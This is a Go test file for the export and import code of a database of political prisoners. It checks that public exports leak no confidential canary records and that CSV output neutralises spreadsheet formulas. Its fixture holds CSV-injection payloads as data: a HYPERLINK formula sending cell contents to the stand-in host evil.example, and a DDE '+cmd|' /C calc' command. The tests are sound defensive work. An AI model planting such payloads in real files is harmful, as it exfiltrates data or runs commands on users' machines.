package importer_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"codeberg.org/habeas/habeas"
	"codeberg.org/habeas/habeas/demo"
	"codeberg.org/habeas/habeas/importer"
	"codeberg.org/habeas/habeas/media/mediatest"
	"codeberg.org/habeas/habeas/store"
	"codeberg.org/habeas/habeas/store/storetest"
)

// tickClock advances by a little over a second each time it is read, so
// that every record gets its own times, with nanoseconds (which SQLite
// keeps and PostgreSQL does not).
type tickClock struct {
	mu sync.Mutex
	t  time.Time
}

func (c *tickClock) Now() time.Time {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.t = c.t.Add(1234567891 * time.Nanosecond)
	return c.t
}

func newTickClock() *tickClock {
	return &tickClock{t: time.Date(2025, 5, 15, 8, 0, 0, 0, time.UTC)}
}

// laterClock is the clock of the stores exports are imported into: the
// records keep their own times, not this one.
var laterClock = habeas.FixedClock{T: time.Date(2025, 7, 1, 9, 0, 0, 0, time.UTC)}

// canary marks text that a public export must not hold.
func canary(n string) string { return "Canary" + n + "Zq" }

// injection is a name a spreadsheet would run as a formula.
const injection = `=HYPERLINK("https://evil.example/?x="&A1,"Click")`

// fixture loads the demo and adds records of every visibility: internal
// and confidential people, cases, events, sources and memberships, names
// in several scripts, a confidential source identity, internal fields on
// public records, references from public records to hidden ones, and a
// name a spreadsheet would take for a formula. Every text that a public
// export must not hold is a canary.
func fixture(t *testing.T, s *store.Store) {
	t.Helper()
	ctx := context.Background()
	op := habeas.Operator
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(demo.Load(ctx, s))

	pubSrc := &habeas.Source{Kind: "article", Title: "Court report", URL: "https://example.org/report",
		Publisher: "Example News", PublishedOn: "2024-03", Reliability: "reliable", Visibility: habeas.Public}
	must(s.CreateSource(ctx, op, pubSrc))
	witness := &habeas.Source{Kind: "testimony", Title: canary("WitnessTitle"), Reliability: "unverified",
		Identity: canary("Identity"), Visibility: habeas.Confidential}
	must(s.CreateSource(ctx, op, witness))
	// A public source with an identity: the identity is confidential all the same.
	named := &habeas.Source{Kind: "testimony", Title: "A relative's account", Reliability: "reliable",
		Identity: canary("PublicSourceIdentity"), Visibility: habeas.Public}
	must(s.CreateSource(ctx, op, named))
	lat, lon := 40.409264, 49.867092
	hidden := &habeas.Facility{Name: canary("SecretFacility"), Kind: "unknown", Country: "AZ",
		Latitude: &lat, Longitude: &lon, Visibility: habeas.Internal}
	must(s.CreateFacility(ctx, op, hidden))
	pubFac := &habeas.Facility{Name: "Baku Pre-trial Detention Centre No. 1", Kind: "pre_trial", Country: "AZ",
		Region: "Baku", Address: "Baku, Sabunchu district", Visibility: habeas.Public}
	must(s.CreateFacility(ctx, op, pubFac))
	cell := &habeas.Organization{Name: canary("InternalOrg"), Kind: "movement", Country: "AZ", Visibility: habeas.Internal}
	must(s.CreateOrganization(ctx, op, cell))
	paper := &habeas.Organization{Name: "Abzas Media", OtherNames: []string{"Абзас Медиа", "أبزاس ميديا"},
		Kind: "media", Country: "AZ", Founded: "2016", Visibility: habeas.Public}
	must(s.CreateOrganization(ctx, op, paper))

	// A public journalist, written in three scripts, with internal and
	// confidential names, internal notes, and a public case that refers
	// to an internal facility.
	leman := &habeas.Person{Country: "AZ", BirthYear: 1985, Gender: "female", Occupation: "Journalist",
		Bio: "Ləman Hüseynova writes for Abzas Media.", InternalNotes: canary("PersonNotes"), Visibility: habeas.Public,
		Names: []habeas.PersonName{
			{Name: "Ləman Hüseynova", Kind: habeas.NamePrimary, Script: "Latn", Lang: "az", Visibility: habeas.Public},
			{Name: "Ляман Гусейнова", Kind: habeas.NameTransliteration, Script: "Cyrl", Lang: "ru", Visibility: habeas.Public},
			{Name: "لمان حسینوا", Kind: habeas.NameTransliteration, Script: "Arab", Lang: "fa", Visibility: habeas.Internal},
			{Name: canary("HidingName"), Kind: habeas.NameAlias, Visibility: habeas.Confidential},
		}}
	must(s.CreatePerson(ctx, op, leman))
	must(s.CreateMembership(ctx, op, &habeas.Membership{PersonID: leman.ID, OrganizationID: paper.ID, Role: "reporter",
		Since: "2019", Visibility: habeas.Public}))
	must(s.CreateMembership(ctx, op, &habeas.Membership{PersonID: leman.ID, OrganizationID: cell.ID, Role: canary("Role"),
		Visibility: habeas.Internal}))
	lc := &habeas.Case{PersonID: leman.ID, Country: "AZ", Status: habeas.StatusPretrial, ArrestDate: "2024-03-06",
		Charges: []habeas.Charge{{Article: "206.3.2", Text: "smuggling"}, {Text: "illegal entrepreneurship"}},
		Court:   "Khatai District Court", FacilityID: hidden.ID, Classification: "political_prisoner",
		ClassifiedBy: "Union for Freedom of Political Prisoners", ClassifiedOn: "2024-04",
		Position: "denies", Summary: "Detained with colleagues of Abzas Media.", InternalNotes: canary("CaseNotes"),
		Visibility: habeas.Public}
	must(s.CreateCase(ctx, op, lc))
	for _, e := range []*habeas.Event{
		{Kind: habeas.EventArrest, Date: "2024-03-06", Summary: "Arrested in Baku.", SourceIDs: []int64{pubSrc.ID, witness.ID}, Visibility: habeas.Public},
		{Kind: habeas.EventTransfer, Date: "2024-03-08", FacilityID: pubFac.ID, Summary: "Taken to the pre-trial centre.", SourceIDs: []int64{named.ID}, Visibility: habeas.Public},
		{Kind: habeas.EventTransfer, Date: "2024-04~", FacilityID: hidden.ID, Summary: "Moved.", Visibility: habeas.Public},
		{Kind: habeas.EventLawyerVisit, Date: "2024-05-02", Summary: canary("LawyerVisit"), Visibility: habeas.Internal},
		{Kind: habeas.EventIllTreatment, Date: "2024-05", Summary: canary("IllTreatment"), Quote: canary("Quote"),
			Speaker: canary("Speaker"), SourceIDs: []int64{witness.ID}, Visibility: habeas.Confidential},
		{Kind: habeas.EventHearing, Date: "2024-05", Summary: "Detention extended.", Visibility: habeas.Public},
	} {
		e.CaseID = lc.ID
		must(s.CreateEvent(ctx, op, e))
	}
	must(s.CreateIntervention(ctx, op, &habeas.Intervention{CaseID: lc.ID, Kind: "appeal", Sender: "Abzas Media",
		Recipient: "Prosecutor General", SentOn: "2024-03-10", DueOn: "2024-04-10", AnswerStatus: "partial",
		AnsweredOn: "2024-04-20", Summary: "Appeal for release.", SourceIDs: []int64{pubSrc.ID, witness.ID}, Visibility: habeas.Public}))
	must(s.CreateIntervention(ctx, op, &habeas.Intervention{CaseID: lc.ID, Kind: "letter", Sender: canary("Sender"),
		Recipient: "Ombudsman", SentOn: "2024-05", AnswerStatus: "none", Visibility: habeas.Internal}))
	// A later edit: updated_at is not created_at.
	leman.Occupation = "Investigative journalist"
	must(s.UpdatePerson(ctx, op, leman))

	// An internal person and a confidential one, with their cases.
	staff := &habeas.Person{Country: "GE", Bio: canary("InternalBio"), Visibility: habeas.Internal,
		Names: []habeas.PersonName{{Name: canary("InternalPerson") + " ბერიძე", Kind: habeas.NamePrimary, Script: "Geor"}}}
	must(s.CreatePerson(ctx, op, staff))
	must(s.CreateCase(ctx, op, &habeas.Case{PersonID: staff.ID, Country: "GE", Status: habeas.StatusDetained,
		Classification: "at_risk", Position: "unknown", Summary: canary("InternalCase"), Visibility: habeas.Internal}))
	secret := &habeas.Person{Country: "AZ", Occupation: canary("SecretOccupation"), Visibility: habeas.Confidential,
		Names: []habeas.PersonName{{Name: canary("SecretPerson") + " Əliyev", Kind: habeas.NamePrimary},
			{Name: canary("SecretCyrillic") + " Алиев", Kind: habeas.NameTransliteration, Script: "Cyrl"}}}
	must(s.CreatePerson(ctx, op, secret))
	must(s.CreateMembership(ctx, op, &habeas.Membership{PersonID: secret.ID, OrganizationID: paper.ID, Role: "source",
		Visibility: habeas.Confidential}))
	sc := &habeas.Case{PersonID: secret.ID, Country: "AZ", Status: habeas.StatusDetained, ArrestDate: "2025-01",
		Charges: []habeas.Charge{{Article: "274", Text: canary("Treason")}}, Court: canary("Court"),
		Classification: "not_assessed", Position: "denies", Visibility: habeas.Confidential}
	must(s.CreateCase(ctx, op, sc))
	must(s.CreateEvent(ctx, op, &habeas.Event{CaseID: sc.ID, Kind: habeas.EventArrest, Date: "2025-01",
		Summary: canary("SecretArrest"), SourceIDs: []int64{witness.ID, pubSrc.ID}, Visibility: habeas.Confidential}))
	must(s.CreateIntervention(ctx, op, &habeas.Intervention{CaseID: sc.ID, Kind: "inquiry", Sender: "Family",
		Recipient: canary("Recipient"), AnswerStatus: "none", Visibility: habeas.Confidential}))

	// A public person whose name is a spreadsheet formula.
	formula := &habeas.Person{Country: "AZ", Visibility: habeas.Public,
		Names: []habeas.PersonName{{Name: injection, Kind: habeas.NamePrimary},
			{Name: "+cmd|' /C calc'!A0", Kind: habeas.NameAlias, Visibility: habeas.Public}}}
	must(s.CreatePerson(ctx, op, formula))
	must(s.CreateCase(ctx, op, &habeas.Case{PersonID: formula.ID, Country: "AZ", Status: habeas.StatusDetained,
		ArrestDate: "2025-02-01", Charges: []habeas.Charge{{Text: "-1+1"}}, Court: "@SUM(1+1)",
		Classification: "not_assessed", Position: "unknown", Summary: "\tTabbed note", Visibility: habeas.Public}))

	// Readers' comments on the demo's post, in every state, and a tip
	// about the journalist: only the approved comment is public.
	post, err := s.PostBySlug(ctx, habeas.Public, demo.NewsSlug)
	must(err)
	v := &habeas.Visitor{Address: "192.0.2.1:1"}
	for _, c := range []struct{ name, text, status string }{
		{"A reader", "An approved comment,\nof two lines.", habeas.CommentApproved},
		{"", canary("PendingComment"), habeas.CommentPending},
		{canary("SpamName"), canary("SpamComment"), habeas.CommentSpam},
	} {
		cm := &habeas.Comment{Name: c.name, Text: c.text}
		must(s.SubmitComment(ctx, v, post.Slug, cm))
		if c.status != habeas.CommentPending {
			_, err := s.ModerateComment(ctx, op, cm.ID, c.status)
			must(err)
		}
	}
	must(s.SubmitTip(ctx, v, leman.Slug, &habeas.Tip{Name: canary("TipName"), Contact: canary("TipContact"), Text: canary("TipText")}))
	tip := &habeas.Tip{Text: "An older tip about nobody in particular."}
	must(s.SubmitTip(ctx, v, leman.Slug, tip))
	_, err = s.SetTipStatus(ctx, op, tip.ID, habeas.TipArchived)
	must(err)

	// Evidence files: a public photo of the formula person (whose
	// original only the whole export holds) and a confidential report.
	photo := &habeas.Media{Filename: "portrait.jpg", Alt: "A portrait.", Caption: "Before the arrest.", Visibility: habeas.Public}
	must(s.CreateMedia(ctx, op, photo, mediatest.WithGPS(mediatest.JPEG(t, 120, 90))))
	formula.PhotoMediaID = photo.ID
	must(s.UpdatePerson(ctx, op, formula))
	// The same file is a post's cover.
	post.CoverMediaID, post.CoverAlt = photo.ID, "A portrait."
	must(s.UpdatePost(ctx, op, post))
	must(s.CreateMedia(ctx, op, &habeas.Media{Filename: canary("Report") + ".pdf", Caption: canary("ReportCaption"),
		Visibility: habeas.Confidential}, mediatest.PDF(canary("ReportText"))))
}

// exportTo exports s at access a in the format into a new folder.
func exportTo(t *testing.T, s *store.Store, a habeas.Access, format string) (string, *importer.ExportReport) {
	t.Helper()
	dir := filepath.Join(t.TempDir(), "export")
	rep, err := importer.ExportDir(context.Background(), s, dir, importer.ExportOptions{Access: a, Format: format, Today: demo.AsOf})
	if err != nil {
		t.Fatalf("export at %s: %v", a, err)
	}
	if rep.LeftOut != 0 {
		t.Errorf("export at %s left out %d records with nothing changing", a, rep.LeftOut)
	}
	return dir, rep
}

func readAll(t *testing.T, dir string) map[string][]byte {
	t.Helper()
	out := map[string][]byte{}
	names := []string{importer.Manifest}
	for _, name := range importer.Files {
		if _, err := os.Stat(filepath.Join(dir, name)); err == nil || name != "tips.jsonl" && name != "media.jsonl" {
			names = append(names, name)
		}
	}
	// The originals of the files, when the export holds them.
	if entries, err := os.ReadDir(filepath.Join(dir, importer.MediaDir)); err == nil {
		for _, e := range entries {
			names = append(names, filepath.Join(importer.MediaDir, e.Name()))
		}
	}
	for _, name := range names {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		out[name] = b
	}
	return out
}

// An export imported into an empty store exports again byte for byte:
// the public export and the whole one, from every backend into every
// backend.
func TestExportImportExportIsIdentical(t *testing.T) {
	storetest.ForEach(t, newTickClock(), func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		fixture(t, s)
		for _, a := range []habeas.Access{habeas.Public, habeas.Confidential} {
			first, rep := exportTo(t, s, a, importer.FormatJSON)
			for _, name := range importer.FilesFor(a) {
				if rep.Counts[name] == 0 {
					t.Errorf("the %s export has no record in %s: the test covers too little", a, name)
				}
			}
			for _, into := range storetest.Backends() {
				again := storetest.New(t, into, laterClock)
				irep, err := importer.ImportDir(ctx, again, habeas.Operator, first, importer.Options{})
				if err != nil {
					t.Fatalf("import the %s export into %s: %v (%q)", a, into, err, irep.Problems)
				}
				if irep.Total() != rep.Total() {
					t.Errorf("imported %d records of the %s export's %d into %s", irep.Total(), a, rep.Total(), into)
				}
				second, _ := exportTo(t, again, a, importer.FormatJSON)
				want, got := readAll(t, first), readAll(t, second)
				for name, w := range want {
					if !bytes.Equal(w, got[name]) {
						t.Errorf("%s export imported into %s: %s differs:\nfirst:\n%s\nsecond:\n%s", a, into, name, w, got[name])
					}
				}
				if err := again.VerifyLists(ctx); err != nil {
					t.Error(err)
				}
			}
		}
	})
}

// A public export holds no internal or confidential record or field; the
// whole one holds them all.
func TestPublicExportHoldsNothingHidden(t *testing.T) {
	storetest.ForEach(t, newTickClock(), func(t *testing.T, s *store.Store) {
		fixture(t, s)
		pub, _ := exportTo(t, s, habeas.Public, importer.FormatJSON)
		if _, err := os.Stat(filepath.Join(pub, "tips.jsonl")); !os.IsNotExist(err) {
			t.Errorf("the public export has a tips file (%v)", err)
		}
		for name, b := range readAll(t, pub) {
			if i := bytes.Index(b, []byte("Canary")); i >= 0 {
				t.Errorf("the public export's %s holds %q", name, b[i:min(len(b), i+40)])
			}
		}
		flat, _ := exportTo(t, s, habeas.Public, importer.FormatCSV)
		b, err := os.ReadFile(filepath.Join(flat, importer.FlatFile))
		if err != nil {
			t.Fatal(err)
		}
		if i := bytes.Index(b, []byte("Canary")); i >= 0 {
			t.Errorf("the public CSV export holds %q", b[i:min(len(b), i+40)])
		}
		popolo, _ := exportTo(t, s, habeas.Public, importer.FormatPopolo)
		b, err = os.ReadFile(filepath.Join(popolo, importer.PopoloFile))
		if err != nil {
			t.Fatal(err)
		}
		if i := bytes.Index(b, []byte("Canary")); i >= 0 {
			t.Errorf("the public Popolo export holds %q", b[i:min(len(b), i+40)])
		}
		if bytes.Contains(b, []byte("لمان حسینوا")) {
			t.Error("the public Popolo export holds an internal name")
		}
		wholePopolo, _ := exportTo(t, s, habeas.Confidential, importer.FormatPopolo)
		b, err = os.ReadFile(filepath.Join(wholePopolo, importer.PopoloFile))
		if err != nil {
			t.Fatal(err)
		}
		for _, c := range []string{"InternalOrg", "HidingName", "Role", "InternalPerson", "SecretPerson", "SecretCyrillic", "InternalBio"} {
			if !bytes.Contains(b, []byte(canary(c))) {
				t.Errorf("the whole Popolo export lacks %s", canary(c))
			}
		}
		all, _ := exportTo(t, s, habeas.Confidential, importer.FormatJSON)
		var whole []byte
		for _, b := range readAll(t, all) {
			whole = append(whole, b...)
		}
		for _, c := range []string{"Identity", "PublicSourceIdentity", "SecretFacility", "InternalOrg", "PersonNotes",
			"HidingName", "CaseNotes", "LawyerVisit", "Quote", "InternalPerson", "SecretPerson", "Treason", "Recipient",
			"PendingComment", "SpamComment", "TipName", "TipContact", "TipText"} {
			if !bytes.Contains(whole, []byte(canary(c))) {
				t.Errorf("the whole export lacks %s", canary(c))
			}
		}
	})
}

// A name that is a spreadsheet formula is stored as the text it is,
// exported as it is in JSON, and neutralised in CSV, as is every cell
// beginning with =, +, -, @ or a tab.
func TestFormulaNameNeutralisedInCSV(t *testing.T) {
	storetest.ForEach(t, newTickClock(), func(t *testing.T, s *store.Store) {
		ctx := context.Background()
		fixture(t, s)
		page, err := s.ListPeople(ctx, habeas.Public, habeas.PeopleFilter{Q: "HYPERLINK"})
		if err != nil {
			t.Fatal(err)
		}
		var stored string
		for _, p := range page.Items {
			if strings.HasPrefix(p.Name, "=") {
				stored = p.Name
			}
		}
		if stored != injection {
			t.Errorf("stored name %q, want the text %q", stored, injection)
		}
		dir, _ := exportTo(t, s, habeas.Public, importer.FormatJSON)
		people, _ := os.ReadFile(filepath.Join(dir, "people.jsonl"))
		if !bytes.Contains(people, []byte(`"name":"=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Click\")"`)) {
			t.Errorf("the JSON export does not hold the name as it is:\n%s", people)
		}

		flat, rep := exportTo(t, s, habeas.Public, importer.FormatCSV)
		f, err := os.Open(filepath.Join(flat, importer.FlatFile))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, err := csv.NewReader(f).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		if strings.Join(rows[0], ",") != strings.Join(importer.FlatColumns, ",") {
			t.Errorf("header %q", rows[0])
		}
		if rep.Counts[importer.FlatFile] != len(rows)-1 {
			t.Errorf("counted %d rows, wrote %d", rep.Counts[importer.FlatFile], len(rows)-1)
		}
		byName := map[string]map[string]string{}
		for _, r := range rows[1:] {
			m := map[string]string{}
			for i, c := range importer.FlatColumns {
				m[c] = r[i]
			}
			byName[m["name"]] = m
		}
		bad, ok := byName["'"+injection]
		if !ok {
			t.Fatalf("no row with the neutralised name; rows %q", rows)
		}
		for col, want := range map[string]string{"other_names": "'+cmd|' /C calc'!A0", "charges": "'-1+1",
			"court": "'@SUM(1+1)", "notes": "'\tTabbed note", "status": "detained", "visibility": "public"} {
			if bad[col] != want {
				t.Errorf("%s = %q, want %q", col, bad[col], want)
			}
		}
		for _, r := range rows[1:] {
			for i, c := range r {
				if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					t.Errorf("row %q: %s = %q is not neutralised", r[0], importer.FlatColumns[i], c)
				}
			}
		}
		elvin := byName["Elvin Mustafayev"]
		for col, want := range map[string]string{"other_names": "Эльвин Мустафаев", "arrest_date": "2023-08",
			"charges": "drug trafficking", "sentence": "P3Y", "sentence_date": "2024-01-31", "status": "sentenced",
			"facility": "", "classification": "not_assessed", "source_url": "",
			"source_title": "Relatives of Elvin Mustafayev Concerned After 8 Days Without News"} {
			if elvin[col] != want {
				t.Errorf("Elvin Mustafayev: %s = %q, want %q", col, elvin[col], want)
			}
		}
		leman := byName["Ləman Hüseynova"]
		for col, want := range map[string]string{"other_names": "Ляман Гусейнова", "birth_year": "1985",
			"charges": "206.3.2: smuggling; illegal entrepreneurship", "status": "pre_trial",
			"facility": "", "source_url": "https://example.org/report"} {
			// To the public she was moved to an undisclosed place: the
			// facility of the last transfer is internal.
			if leman[col] != want {
				t.Errorf("Ləman Hüseynova: %s = %q, want %q", col, leman[col], want)
			}
		}
		whole, _ := exportTo(t, s, habeas.Confidential, importer.FormatCSV)
		b, _ := os.ReadFile(filepath.Join(whole, importer.FlatFile))
		if !bytes.Contains(b, []byte(",pre_trial,")) || !bytes.Contains(b, []byte(canary("SecretFacility"))) {
			t.Errorf("the whole CSV export does not place her in the internal facility:\n%s", b)
		}
	})
}

// An export never writes over anything: a folder that is not empty is
// refused and left as it was.
func TestExportRefusesAFolderInUse(t *testing.T) {
	s := storetest.New(t, store.SQLite, laterClock)
	dir := t.TempDir()
	keep := filepath.Join(dir, "people.jsonl")
	if err := os.WriteFile(keep, []byte("mine\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	if _, err := importer.ExportDir(context.Background(), s, dir, importer.ExportOptions{}); err == nil || !strings.Contains(err.Error(), "not empty") {
		t.Fatalf("export into a folder in use: %v", err)
	}
	if b, _ := os.ReadFile(keep); string(b) != "mine\n" {
		t.Errorf("the file in the folder became %q", b)
	}
}
